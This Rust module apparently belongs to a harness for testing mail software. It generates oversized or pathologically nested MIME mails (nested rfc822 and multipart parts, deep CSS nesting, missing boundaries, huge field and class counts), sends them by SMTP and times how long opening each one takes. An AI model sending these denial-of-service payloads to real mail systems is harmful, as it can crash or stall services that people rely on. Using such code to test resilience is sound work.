//! Mail that is nested or repeated to overflow a stack or to take hours, sent by SMTP and opened.

use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;

use super::html::{head, open, wrap_lines};
use super::target::AttackTarget;

/// Levels of what is nested, and pieces of what is repeated.
const LEVELS: usize = 60_000;
/// Levels of `@media`: these ended the process once.
const STYLE_LEVELS: usize = 8_200;
/// Bytes of what follows boundaries that never come.
const FILLER_BYTES: usize = 4_000_000;
/// Bytes of a class attribute.
const CLASS_BYTES: usize = 1_000_000;
/// Lines are broken where blanks may stand: a line of a mail has at most 998 bytes.
const PIECES_PER_LINE: usize = 40;

/// The ways to write the type of an attached mail.
const SPELLINGS: [&str; 6] = [
    "message/rfc822",
    "message/ rfc822",
    "message /rfc822",
    "message\r\n /rfc822",
    "message(a comment)/rfc822",
    "MESSAGE/GLOBAL",
];

/// Sends a mail of every kind and opens each; answers the longest wait.
pub async fn open_nested_mail(target: &AttackTarget) -> Result<Duration, String> {
    let mut slowest = Duration::ZERO;
    for (number, (name, rest)) in nested_bodies().into_iter().enumerate() {
        let mail = format!("{}{rest}\r\n", head(&name, "nesting", number));
        slowest = slowest.max(open(target, &name, mail).await?);
    }
    Ok(slowest)
}

/// Each mail by its subject, from its type on.
pub fn nested_bodies() -> Vec<(String, String)> {
    let mut cases = Vec::new();
    for (number, kind) in SPELLINGS.iter().enumerate() {
        let level = format!("Content-Type: {kind}\r\n\r\n");
        cases.push((format!("nested messages {number}"), level.repeat(LEVELS)));
        let encoded = format!(
            "Content-Type: {kind}\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
            wrap_lines(&STANDARD.encode(level.repeat(LEVELS)))
        );
        cases.push((format!("encoded messages {number}"), encoded));
    }
    for css in ["@media all{", "@media screen{a{", "a{", "@supports(x){", ":not("] {
        let line = css.repeat(PIECES_PER_LINE) + "\r\n";
        let css = line.repeat(STYLE_LEVELS / PIECES_PER_LINE);
        cases.push((
            format!("nested styles {}", cases.len()),
            format!("Content-Type: text/html\r\n\r\n<style>{css}</style><p>x</p>"),
        ));
    }
    let digest = "Content-Type: multipart /digest; boundary=b\r\n\r\n--b\r\n\r\n".repeat(LEVELS);
    cases.push(("nested digests".into(), digest));
    let level =
        |n: usize| format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n");
    cases.push(("nested multiparts".into(), (0..LEVELS).map(level).collect()));
    let whole = "Content-Type: multipart/mixed; boundary=b\r\n\r\n";
    let absent =
        |n: usize| format!("--b\r\nContent-Type: multipart /mixed; boundary=x{n}\r\n\r\ny\r\n");
    let filler = "filler filler filler\r\n".repeat(FILLER_BYTES / 22);
    let parts: String = (0..LEVELS / 10).map(absent).collect();
    cases.push(("absent boundaries".into(), format!("{whole}{parts}{filler}--b--\r\n")));
    cases.push(("many parts".into(), format!("{whole}{}", "--b\r\n\r\n".repeat(LEVELS * 10))));
    let fields = "a:\r\n".repeat(LEVELS * 10);
    cases.push(("many fields".into(), format!("{whole}--b\r\n{fields}\r\nx\r\n--b--\r\n")));
    let pieces = " a*1=x;\r\n".repeat(LEVELS);
    let parameters =
        format!("{whole}--b\r\nContent-Type: text/plain;\r\n{pieces}\r\nx\r\n--b--\r\n");
    cases.push(("many parameters".into(), parameters));
    let words = " =?aa?q?x\r\n".repeat(LEVELS / 3);
    cases.push(("open words".into(), format!("Comments:\r\n{words}\r\nx")));
    let rules: String = (0..16)
        .flat_map(|first| (0..16).map(move |place| (first, place)))
        .map(|(first, place)| format!(".c{first}{}.x{place}{{color:red}}\r\n", ".c1".repeat(14)))
        .collect();
    let names: Vec<String> = (0..16).map(|n| format!("c{n}")).collect();
    let classes = "a b c d e f g h i j k l m n o p\r\n".repeat(CLASS_BYTES / 33);
    let elements = format!("<i class=\"{}\">x</i>\r\n", names.join(" ")).repeat(20_000);
    cases.push((
        "many classes".into(),
        format!(
            "Content-Type: text/html\r\n\r\n<style>{rules}</style><p class=\"{} {classes}\">x</p>{elements}",
            names.join(" ")
        ),
    ));
    cases
}
